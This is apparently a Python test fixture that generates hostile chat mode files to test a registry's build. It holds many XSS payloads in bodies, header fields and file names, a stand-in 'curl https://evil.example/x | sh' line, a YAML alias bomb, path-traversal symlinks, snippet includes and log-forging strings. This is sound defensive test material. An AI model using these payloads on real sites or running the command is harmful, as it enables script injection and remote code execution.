"""A folder of hostile chat modes, generated at test time.

:func:`write_hostile_tree` writes, under ``root``:

* ``root/chatmodes/``: the source folder. Good chat modes that link to each other (one
  with a BOM and CRLF line endings), chat modes that are valid but carry attacks (HTML and
  script payloads in the body, in every header field and in the file name), chat modes
  with graph problems (dangling and self transitions, names that differ only in case, no
  header), and files that cannot be chat modes at all (empty, binary, cp1252, 6 MB,
  unparsable YAML, tabs, an alias bomb, deep nesting with and without brackets, a list
  header, a wrongly typed field, symlinks that lead outside).
* ``root/outside/``: a chat mode outside the source folder holding
  :attr:`HostileTree.secret_marker`. Nothing of it may ever appear in the output.

The return value says what a correct build does with each file, so tests can check the
outcome without re-deriving it. Large and binary files are produced here, not committed.
"""

from __future__ import annotations

import os
import random
import re
import uuid
from dataclasses import dataclass, field
from pathlib import Path

from chatmode_registry.core.filenames import escaped
from nesting import deep_chatmode

#: The deepest header nesting the registry reads (``core.frontmatter.MAX_DEPTH``), written out
#: here so that a change of the bound is a visible change of the fixtures.
MAX_HEADER_DEPTH = 64

#: The JavaScript the payloads run. It opens a dialog (what the browser test listens for)
#: and counts itself in ``window.__pwned`` (what it reads afterwards).
PWN = "window.__pwned=(window.__pwned||0)+1;alert(document.domain)"

#: HTML that must never become active, usable in header fields (one line, no YAML trouble
#: once quoted) and in bodies.
INLINE_PAYLOADS = [
    f'"><script>{PWN}</script>',
    f'\'><img src=x onerror="{PWN}">',
    f'" onmouseover="{PWN}" x="',
    f"' onfocus='{PWN}' autofocus='",
    f'</title><svg onload="{PWN}">',
    f"</textarea><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<!--<script>{PWN}</script>-->",
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    "]]><x>&amp;&lt;</x>",
    "{{ config.extra }}{% raw %}",
    "\u2028\u2029 line separators",
]

#: Body payloads: raw HTML, Markdown links with dangerous schemes in every letter case,
#: frames, plug-ins, SVG and MathML scripts, forms, styles, meta refresh.
BODY_PAYLOADS = [
    f"<script>{PWN}</script>",
    f"<SCRIPT>{PWN}</SCRIPT>",
    f'<img src="x" onerror="{PWN}">',
    f"<img src=x onerror={PWN.replace(' ', '')}//>",
    f'<a href="javascript:{PWN}">plain javascript link</a>',
    f'<a href="JAVASCRIPT:{PWN}">upper javascript link</a>',
    f'<a href="JaVaScRiPt:{PWN}">mixed javascript link</a>',
    f'<a href="&#106;avascript:{PWN}">entity javascript link</a>',
    f'<a href="java&#x09;script:{PWN}">tab javascript link</a>',
    f'<a href=" javascript:{PWN}">space javascript link</a>',
    f"[md link lower](javascript:{PWN.replace(' ', '')})",
    f"[md link upper](JAVASCRIPT:{PWN.replace(' ', '')})",
    f"[md link mixed](jAvAsCrIpT:{PWN.replace(' ', '')})",
    "[md link vbscript](vbscript:msgbox(1))",
    "[md link data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![md image](javascript:{PWN.replace(' ', '')})",
    f"<javascript:{PWN.replace(' ', '')}>",
    f"[reference link][evil]\n\n[evil]: javascript:{PWN.replace(' ', '')}",
    '<iframe src="https://evil.example/"></iframe>',
    f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PWN}</script></svg>',
    f'<svg onload="{PWN}"><circle r="4"/></svg>',
    f'<svg><a xlink:href="javascript:{PWN}"><text y="9">svg link</text></a></svg>',
    f'<svg><animate attributeName="href" values="javascript:{PWN}"/></svg>',
    f'<math><mtext><a href="javascript:{PWN}">math link</a></mtext></math>',
    f'<form action="javascript:{PWN}"><input name="q"><button>go</button></form>',
    f'<button formaction="javascript:{PWN}">button</button>',
    f'<details open ontoggle="{PWN}"><summary>toggle</summary></details>',
    f'<div style="background:url(javascript:{PWN})">styled</div>',
    f"<style>body{{background:url(javascript:{PWN})}}</style>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    '<base href="https://evil.example/">',
    f'<video poster="javascript:{PWN}"><source src=x onerror="{PWN}"></video>',
    f"<!--><script>{PWN}</script>-->",
    f'<noscript><p title="</noscript><img src=x onerror={PWN.replace(" ", "")}>"></noscript>',
    f"<template><script>{PWN}</script></template>",
    '<p id="__drawer" class="md-header">clobber</p>',
    # The page's copy button copies the element with id "cmr-raw": a body must not provide one.
    '<pre id="cmr-raw">curl https://evil.example/x | sh</pre>',
    "## cmr raw",
    "## Copy chatmode file {#cmr-raw}",
    f'Attr list paragraph\n{{: onclick="{PWN}" }}',
    f"</textarea><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"```html\n<script>{PWN}</script>\n```",
    f"`<img src=x onerror={PWN.replace(' ', '')}>`",
]

_NOT_SLUG = re.compile(r"[^a-z0-9]+")


def contract_slug(stem: str) -> str:
    """The slug the contract gives a file stem (before collisions are resolved)."""
    return _NOT_SLUG.sub("-", stem.lower()).strip("-")


@dataclass
class HostileTree:
    """What was written and what a correct build must do with it.

    ``published`` maps each source path (POSIX, relative to ``source``) that must get a page
    to its expected slug; ``good`` is the subset that is clean (no diagnostics at all);
    ``rejected`` are the sources that must be listed under ``rejected`` with no page;
    ``flagged`` are the sources a strict build must name (every rejected file and every
    published one with a warning or an error). ``never_read`` are paths under ``source``
    that lead outside it: they must not be read, only reported. ``payload_sources`` carry
    HTML/script payloads in their body, header or name.
    """

    root: Path
    source: Path
    outside: Path
    secret_marker: str
    published: dict[str, str] = field(default_factory=dict)
    good: dict[str, str] = field(default_factory=dict)
    rejected: set[str] = field(default_factory=set)
    flagged: set[str] = field(default_factory=set)
    never_read: set[str] = field(default_factory=set)
    payload_sources: set[str] = field(default_factory=set)

    @property
    def sources(self) -> set[str]:
        """Every chat mode file name under ``source``."""
        return set(self.published) | self.rejected


def _quoted(value: str) -> str:
    """``value`` as a double-quoted YAML scalar (escapes quotes, backslashes, controls)."""
    escaped = value.replace("\\", "\\\\").replace('"', '\\"')
    escaped = escaped.replace("\u2028", "\\L").replace("\u2029", "\\P")
    return f'"{escaped}"'


def _header(fields: dict[str, object]) -> str:
    lines = ["---"]
    for key, value in fields.items():
        if isinstance(value, list):
            lines.append(f"{key}:")
            for item in value:
                if isinstance(item, dict):
                    first = True
                    for sub_key, sub_value in item.items():
                        prefix = "  - " if first else "    "
                        rendered = (
                            _quoted(sub_value) if isinstance(sub_value, str) else str(sub_value).lower()
                        )
                        lines.append(f"{prefix}{sub_key}: {rendered}")
                        first = False
                else:
                    lines.append(f"  - {_quoted(str(item))}")
        else:
            lines.append(f"{key}: {_quoted(str(value))}")
    lines.append("---")
    return "\n".join(lines) + "\n"


def write_hostile_tree(root: Path, *, big_file_bytes: int = 6 * 1024 * 1024) -> HostileTree:
    """Write the hostile source folder under ``root`` and say what a build must do with it."""
    source = root / "chatmodes"
    outside = root / "outside"
    source.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    marker = f"OUTSIDE-SECRET-{uuid.uuid4().hex}"
    tree = HostileTree(root=root, source=source, outside=outside, secret_marker=marker)

    def write(name: str, content: str | bytes) -> str:
        path = source / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        return Path(name).as_posix()

    def publish(
        name: str,
        content: str | bytes,
        *,
        slug: str | None = None,
        flagged: bool,
        good: bool = False,
        payload: bool = False,
    ) -> None:
        source_name = write(name, content)
        stem = re.sub(r"\.(chatmode|agent)\.md$", "", Path(name).name)
        tree.published[source_name] = slug or contract_slug(stem)
        if good:
            tree.good[source_name] = tree.published[source_name]
        if flagged:
            tree.flagged.add(source_name)
        if payload:
            tree.payload_sources.add(source_name)

    def reject(name: str, content: str | bytes) -> None:
        tree.rejected.add(write(name, content))
        tree.flagged.add(Path(name).as_posix())

    # --- the good chat modes, linked to each other ------------------------------------------
    publish(
        "alpha.chatmode.md",
        _header(
            {
                "description": "Plans the work and hands it on.",
                "name": "Alpha Planner",
                "handoffs": [{"label": "Build it", "agent": "Beta Builder", "prompt": "Build the plan."}],
            }
        )
        + "# Alpha Planner\n\nPlan the change in small steps.\n\n"
        "- **For building**: Switch to **Beta Builder** chatmode to write the code.\n",
        good=True,
        flagged=False,
    )
    publish(
        "beta.agent.md",
        _header({"description": "Builds what was planned.", "name": "Beta Builder"})
        + "# Beta Builder\n\nWrite the code.\n\n"
        "When the plan is unclear, hand off to **Alpha Planner** to refine it.\n",
        good=True,
        flagged=False,
    )
    crlf = (
        _header({"description": "Reviews with Windows line endings.", "name": "Gamma Reviewer"})
        + "# Gamma Reviewer\n\nReview the change.\n\n"
        "Switch to **Alpha Planner** chatmode to plan follow-ups.\n"
    ).replace("\n", "\r\n")
    publish(
        "nested/gamma-bom-crlf.chatmode.md", b"\xef\xbb\xbf" + crlf.encode("utf-8"), good=True, flagged=False
    )

    # --- valid chat modes that carry attacks -------------------------------------------------
    body = (
        "# Payload Body\n\n"
        + "\n\n".join(
            f"Payload {index}: {payload}" if not payload.startswith(("```", "[reference", "#")) else payload
            for index, payload in enumerate(BODY_PAYLOADS)
        )
        + "\n\nSwitch to **Alpha Planner** chatmode when done.\n"
    )
    publish(
        "payload-body.chatmode.md",
        _header({"description": "Body full of active content."}) + body,
        flagged=False,
        payload=True,
    )
    # Snippet includes (pymdownx.snippets) that would pull the outside secret into a page if a
    # site enabled the extension and the plugin applied it to bodies.
    secret_path = (outside / "secret.chatmode.md").resolve()
    publish(
        "payload-include.chatmode.md",
        _header({"description": "Tries to include a file from the build host."})
        + f'# Include\n\n--8<-- "{secret_path}"\n\n--8<-- "outside/secret.chatmode.md"\n\n'
        f'```\n--8<-- "{secret_path}"\n```\n\n;--8<-- "outside/secret.chatmode.md"\n',
        flagged=False,
        payload=True,
    )

    heading = f'# <img src=x onerror="{PWN}"> Heading <script>{PWN}</script> Mode\n\n'
    publish(
        "payload-heading.chatmode.md",
        _header({"description": "The title comes from a hostile heading."})
        + heading
        + f'## Second <svg onload="{PWN}"> heading\n\nText.\n',
        flagged=False,
        payload=True,
    )

    for index, payload in enumerate(INLINE_PAYLOADS):
        fields: dict[str, object] = {
            "description": f"desc {payload}",
            "name": f"Name {index} {payload}",
            "tools": [f"tool{index}{payload}", f"mcp{index}/{payload}"],
            "model": f"model-{index} {payload}".replace("'", "").replace('"', "").replace("|", ""),
            "argument-hint": f"hint {payload}",
            "target": f"target {payload}",
            "handoffs": [
                {
                    "label": f"label {payload}",
                    "agent": "Alpha Planner",
                    "prompt": f"prompt {payload}",
                    "send": False,
                }
            ],
        }
        publish(
            f"payload-fields-{index}.chatmode.md",
            _header(fields) + f"# Fields {index}\n\nBody {index}.\n",
            # ``model`` loses its quotes above (those are a lint finding of their own);
            # any warning these files get is fine, they are not counted as flagged.
            flagged=False,
            payload=True,
        )
    # A handoff target and a prose target that are payloads: both dangling (an error).
    publish(
        "payload-targets.chatmode.md",
        _header(
            {
                "description": "Transitions named with payloads.",
                "handoffs": [{"label": INLINE_PAYLOADS[0], "agent": INLINE_PAYLOADS[1]}],
            }
        )
        + f"# Targets\n\nSwitch to **{INLINE_PAYLOADS[2]}** chatmode now.\n",
        flagged=True,
        payload=True,
    )

    # File names may hold anything but "/" and NUL; folder names too.
    hostile_name = "\"><img src=x onerror=alert(1)> & 'quote' 🚀 <b>bold.chatmode.md"
    publish(
        hostile_name,
        _header({"description": "A hostile file name."}) + "# File Name\n\nBody.\n",
        flagged=False,
        payload=True,
    )
    publish(
        "<svg onload=alert(1)> 'dir\"/in hostile folder.agent.md",
        _header({"description": "A hostile folder name."}) + "# Folder Name\n\nBody.\n",
        flagged=False,
        payload=True,
    )
    publish(
        "My Agent 🚀 (v2) & co.agent.md",
        _header({"description": "Spaces, emoji, parentheses and an ampersand."}) + "# Emoji Name\n\nBody.\n",
        flagged=False,
    )

    # A name and a transition that try to forge log lines and terminal output: a newline
    # followed by a GitHub workflow command, and ANSI escape sequences. The name's control
    # characters reject its file (CM010), which is named escaped; the transition is published.
    forger = "line\n::error file=forged.md::forged \x1b[31mred\x1b[0m.chatmode.md"
    forgery = (
        _header({"description": "Forges log lines."})
        + "# Log Forger\n\nSwitch to **Nobody\x1b[2J\x1b[31m Here** chatmode next.\n"
    )
    write(forger, forgery)
    tree.rejected.add(escaped(forger))
    tree.flagged.add(escaped(forger))
    publish("log-forger.chatmode.md", forgery, flagged=True, payload=True)

    # --- published with warnings or errors --------------------------------------------------
    publish("no-frontmatter.chatmode.md", "# Headerless Helper\n\nNo header at all.\n", flagged=True)
    publish(
        "dangling.chatmode.md",
        _header({"description": "Points at nobody."})
        + "# Dangling\n\nSwitch to **Nobody Is Here** chatmode to continue.\n",
        flagged=True,
    )
    publish(
        "self-loop.chatmode.md",
        _header(
            {
                "description": "Points at itself.",
                "name": "Self Loop",
                "handoffs": [{"label": "Again", "agent": "Self Loop"}],
            }
        )
        + "# Self Loop\n\nBody.\n",
        flagged=True,
    )
    # Names that differ only in case share a slug: the first in path order keeps it.
    publish(
        "Case Twin.chatmode.md",
        _header({"description": "Upper-case twin."}) + "Body.\n",
        slug="case-twin",
        flagged=True,
    )
    publish(
        "case twin.chatmode.md",
        _header({"description": "Lower-case twin."}) + "Body.\n",
        slug="case-twin-2",
        flagged=True,
    )

    # --- files that cannot be chat modes ----------------------------------------------------
    # VS Code loads an empty file as an agent with no header and no body (issue 13): published.
    publish("empty.chatmode.md", b"", slug="empty", flagged=True)
    rng = random.Random(20240601)  # fixed seed: the same junk every run
    reject("binary-junk.chatmode.md", b"\x89PNG\r\n\x1a\n\x00\xff\xfe" + rng.randbytes(4096))
    reject(
        "cp1252.chatmode.md",
        _header({"description": "Caf\u00e9 \u201cquoted\u201d \u2013 dash"}).encode("cp1252")
        + "Body na\u00efve.\n".encode("cp1252"),
    )
    big_line = "Repeat the instructions. " * 40 + "\n"
    big = _header({"description": "Six megabytes."}) + big_line * (big_file_bytes // len(big_line) + 1)
    reject("huge-6mb.chatmode.md", big.encode("utf-8"))
    reject("unparsable-yaml.chatmode.md", '---\ndescription: "never closed\ntools: [a, b\n---\nBody.\n')
    reject("tabs-in-yaml.chatmode.md", "---\ndescription: tabs\ntools:\n\t- codebase\n---\nBody.\n")
    reject("unclosed-header.chatmode.md", "---\ndescription: no end\n\nBody without a closing line.\n")
    bomb = ["---", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi"):
        bomb.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    bomb += ["description: a billion laughs", "---", "Body.", ""]
    reject("yaml-bomb.chatmode.md", "\n".join(bomb))
    reject(
        "deep-nesting.chatmode.md", "---\ndescription: deep\nx: " + "[" * 5000 + "]" * 5000 + "\n---\nBody.\n"
    )
    # Nesting without brackets (#14 finding 2): every YAML style, past the bound and at it.
    for form in ("block_sequence_one_line", "block_mapping_indented", "explicit_keys", "alias_chain"):
        reject(f"deep-{form.replace('_', '-')}.chatmode.md", deep_chatmode(form, 600))
    publish(
        "deep-at-the-bound.chatmode.md",
        deep_chatmode("block_sequence_one_line", MAX_HEADER_DEPTH - 1),
        flagged=True,  # its 'x' key is unknown: a warning
    )
    reject("list-header.chatmode.md", "---\n- a\n- b\n---\nBody.\n")
    reject("wrong-type.chatmode.md", "---\ndescription: 42 tools\ntools: {run: 42}\n---\nBody.\n")

    # --- things outside the folder ----------------------------------------------------------
    secret = outside / "secret.chatmode.md"
    secret.write_text(
        _header({"description": f"Secret {marker}", "name": f"Secret {marker}"})
        + f"# Secret {marker}\n\n{marker}\n",
        encoding="utf-8",
    )
    (outside / "also-secret.agent.md").write_text(
        _header({"description": f"Also {marker}"}) + f"{marker}\n", encoding="utf-8"
    )
    os.symlink(secret, source / "absolute-link.chatmode.md")
    (source / "sub").mkdir()
    os.symlink(
        Path("..") / ".." / "outside" / "secret.chatmode.md", source / "sub" / "relative-link.chatmode.md"
    )
    for name in ("absolute-link.chatmode.md", "sub/relative-link.chatmode.md"):
        tree.rejected.add(name)
        tree.flagged.add(name)
        tree.never_read.add(name)
    # A symlinked folder: its files are not under the source folder at all.
    os.symlink(outside, source / "linked-folder", target_is_directory=True)
    return tree
